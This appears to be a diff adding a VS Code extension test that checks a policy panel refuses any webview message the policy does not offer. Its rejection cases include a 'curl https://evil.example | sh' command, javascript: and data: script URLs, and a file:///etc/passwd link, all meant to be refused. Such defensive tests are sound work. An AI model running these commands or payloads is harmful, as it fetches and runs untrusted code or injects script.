@@ -1,0 +1,158 @@
+import { strict as assert } from 'node:assert';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import * as vscode from 'vscode';
+import type { PanelModel } from '../../src/core/present/panelModel';
+import { PolicyPanel } from '../../src/vscode/policyPanel';
+import { EXTENSION_ID, getApi, tempDir, waitFor } from './util';
+
+const POLICY = [
+  'version: 1',
+  'organization: { en: Panel Messages Corp, zh-cn: 面板消息公司 }',
+  'timezone: UTC',
+  'tools:',
+  '  - id: panel-msg-tool',
+  '    name: Panel Msg Tool',
+  '    terminalNames: [Panel Msg Tool]',
+  'rules:',
+  '  - id: claude-rule',
+  '    tool: claude-code',
+  '    alternative:',
+  '      name: { en: Qoder, zh-cn: Qoder 编程 }',
+  '      url: https://qoder.com/',
+  '      extensions: [qoder.qoder-vscode]',
+  '      commands: [qodercli]',
+  '    links:',
+  '      - { title: { en: Memo, zh-cn: 备忘录 }, url: "https://intranet.example/memo" }',
+  '    exceptionRequestUrl: "https://intranet.example/ask?tool={tool}&rule={rule}&user={user}"',
+  '  - id: terminal-rule',
+  '    tool: panel-msg-tool',
+  '',
+].join('\n');
+
+// Every message the webview can send, accepted when the shown model offers it and
+// refused otherwise; effects are checked in the editor itself where the API shows them.
+describe('policy panel messages in the real editor', function () {
+  this.timeout(60_000);
+  let toolTerminal: vscode.Terminal;
+  let otherTerminal: vscode.Terminal;
+  let model: PanelModel;
+
+  before(async () => {
+    const api = await getApi();
+    const file = path.join(tempDir(), 'panel-messages.yaml');
+    fs.writeFileSync(file, POLICY);
+    await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', file, vscode.ConfigurationTarget.Global);
+    otherTerminal = vscode.window.createTerminal({ name: 'Other shell' });
+    toolTerminal = vscode.window.createTerminal({ name: 'Panel Msg Tool' });
+    model = await waitFor(() => api.controller.panelModel(), (m) => m.cards.some((c) => c.ruleId === 'terminal-rule') && m.cards.some((c) => c.ruleId === 'claude-rule'),
+      15_000, 'both findings');
+    await vscode.commands.executeCommand('toolPolicy.showPanel');
+    await waitFor(() => api.panel.currentModel?.cards.length ?? 0, (n) => n >= 2, 5000, 'the panel with both cards');
+  });
+
+  after(async () => {
+    toolTerminal.dispose();
+    otherTerminal.dispose();
+    await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', undefined, vscode.ConfigurationTarget.Global);
+    await vscode.commands.executeCommand('toolPolicy.rescan');
+  });
+
+  it('shows the policy text in the display language and every card its source file', () => {
+    assert.equal(model.organization, vscode.env.language.startsWith('zh') ? '面板消息公司' : 'Panel Messages Corp');
+    for (const card of model.cards) {
+      assert.equal(card.source.layer, 'user');
+      assert.match(card.source.path, /panel-messages\.yaml$/);
+    }
+  });
+
+  it('ready: answered with the model', async () => {
+    const api = await getApi();
+    assert.equal(api.panel.receive({ type: 'ready' }).accepted, true);
+    assert.equal(api.panel.receive({ type: 'ready', model: {} }).accepted, false);
+  });
+
+  it('copy: only a command the alternative names reaches the clipboard', async () => {
+    const api = await getApi();
+    await vscode.env.clipboard.writeText('before');
+    assert.deepEqual(api.panel.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    assert.equal(await vscode.env.clipboard.readText(), 'before');
+    assert.equal(api.panel.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
+    let copied = '';
+    for (let tries = 0; tries < 40 && copied !== 'qodercli'; tries++) {
+      copied = await vscode.env.clipboard.readText();
+      if (copied !== 'qodercli') await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+    assert.equal(copied, 'qodercli');
+  });
+
+  it('focusTerminal: only a terminal the evidence names comes to the front', async () => {
+    const api = await getApi();
+    otherTerminal.show(false);
+    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front');
+    assert.equal(api.panel.receive({ type: 'focusTerminal', name: 'Other shell ' }).accepted, false);
+    assert.equal(api.panel.receive({ type: 'focusTerminal', name: 'Panel Msg Tool' }).accepted, true);
+    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Panel Msg Tool', 5000, 'the tool terminal in front');
+    otherTerminal.show(false);
+    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front again');
+    assert.deepEqual(api.panel.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    assert.equal(vscode.window.activeTerminal?.name, 'Other shell', 'a refused message changes nothing');
+  });
+
+  it('installAlternative: only an extension the alternative names', async () => {
+    const api = await getApi();
+    assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'anthropic.claude-code' }), { accepted: false, reason: 'no alternative names this extension' });
+    assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
+    assert.deepEqual(api.panel.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }),
+      { accepted: true, message: { type: 'installAlternative', extensionId: 'qoder.qoder-vscode' } });
+  });
+
+  describe('links and uninstall, through the panel’s action seam', () => {
+    const opened: string[] = [];
+    const uninstalled: Array<[string, string]> = [];
+    let panel: PolicyPanel;
+
+    before(() => {
+      const extension = vscode.extensions.getExtension(EXTENSION_ID) as vscode.Extension<unknown>;
+      // A second panel with the same code, whose actions record instead of opening a
+      // browser or a modal dialog that no one in this suite would answer.
+      panel = new PolicyPanel(extension.extensionUri, {
+        uninstall: async (id, toolName) => { uninstalled.push([id, toolName]); },
+        focusTerminal: () => undefined,
+        openExternal: (url) => { opened.push(url); },
+      });
+      panel.show(model);
+    });
+    after(() => panel.dispose());
+
+    it('openExternal: only an https: link the policy names, exactly as shown', () => {
+      const request = model.cards.find((c) => c.ruleId === 'claude-rule')?.exceptionRequestUrl ?? '';
+      assert.match(request, /^https:\/\/intranet\.example\/ask\?tool=claude-code&rule=claude-rule&user=/);
+      for (const url of ['https://evil.example/', 'https://qoder.com', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'http://qoder.com/', 'command:workbench.action.quit', 'file:///etc/passwd']) {
+        assert.deepEqual(panel.receive({ type: 'openExternal', url }), { accepted: false, reason: 'the policy names no such https: link' }, url);
+      }
+      for (const url of ['https://qoder.com/', 'https://intranet.example/memo', request]) assert.equal(panel.receive({ type: 'openExternal', url }).accepted, true, url);
+      assert.deepEqual(opened, ['https://qoder.com/', 'https://intranet.example/memo', request]);
+    });
+
+    it('uninstall: only an extension the findings name, by the id the editor reported', async () => {
+      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ms-python.python' }).accepted, false);
+      assert.equal(panel.receive({ type: 'uninstall', extensionId: EXTENSION_ID }).accepted, false);
+      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'qoder.qoder-vscode' }).accepted, false);
+      assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ANTHROPIC.CLAUDE-CODE' }).accepted, true);
+      await waitFor(() => uninstalled.length, (n) => n === 1, 2000, 'the uninstall action');
+      assert.deepEqual(uninstalled, [['anthropic.claude-code', 'Claude Code']]);
+    });
+
+    it('anything that is not exactly a panel message is refused and recorded', () => {
+      const before = panel.decisions.length;
+      for (const message of [null, 'copy', [], { type: 'copy' }, { type: 'copy', text: 'qodercli', extra: true }, { type: 'eval', code: '1' }, { type: 'openExternal', url: ['https://qoder.com/'] }]) {
+        assert.equal(panel.receive(message).accepted, false, JSON.stringify(message));
+      }
+      assert.deepEqual(panel.decisions.slice(before).map((d) => d.accepted), [false, false, false, false, false, false, false]);
+      assert.equal(opened.length, 3);
+    });
+  });
+});
